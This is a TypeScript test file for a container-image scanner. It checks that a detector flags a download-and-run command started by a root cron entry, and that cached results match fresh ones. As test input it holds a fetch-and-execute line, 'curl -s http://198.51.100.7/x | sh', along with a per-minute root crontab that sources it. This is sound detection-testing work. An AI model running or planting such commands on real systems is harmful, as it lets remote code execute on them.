import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { image, layer } from '../../test/detection/image-case.ts';
import { buildImage } from '../../testkit/image.ts';
import { writeOciLayout } from '../../testkit/store.ts';
import { DEFAULT_POLICY } from '../assess/index.ts';
import { DEFAULT_LIMITS } from '../base/limits.ts';
import { checkTarget } from './check.ts';

const FETCHES = 'curl -s http://198.51.100.7/x | sh\n';

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'clearpull-autostarts-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** The crontab's layer is the same whatever lies below it. */
async function check(below: string): Promise<readonly string[]> {
  const spec = image(
    [layer({ 'opt/env': below }), layer({ 'etc/cron.d/x': '* * * * * root . /opt/env\n' })],
    { Entrypoint: ['/usr/bin/sleep', '1'] },
  );
  const layout = mkdtempSync(join(root, 'layout-'));
  await writeOciLayout(layout, [{ image: buildImage(spec), name: 'x' }]);
  const [assessment] = await checkTarget(`oci:${layout}:x`, {
    policy: DEFAULT_POLICY,
    limits: DEFAULT_LIMITS,
    registry: { insecure: false, timeout: 1000, dockerConfigFolder: join(root, 'none') },
    workers: 1,
    cacheFolder: join(root, 'cache'),
  });
  return (assessment?.findings ?? []).map(({ rule, why }) => `${rule}: ${why}`);
}

describe('what detectors see in what starts by itself', () => {
  it('is the same out of the cache, and is found anew over other layers', async () => {
    const first = await check(FETCHES);
    expect(first.join('\n')).toMatch(/download-and-run: .*cron starts \/etc\/cron.d\/x, which runs it/);
    expect(await check(FETCHES)).toEqual(first);
    expect((await check('A=1\n')).join('\n')).not.toContain('download-and-run');
    expect(await check(FETCHES)).toEqual(first);
  });
});
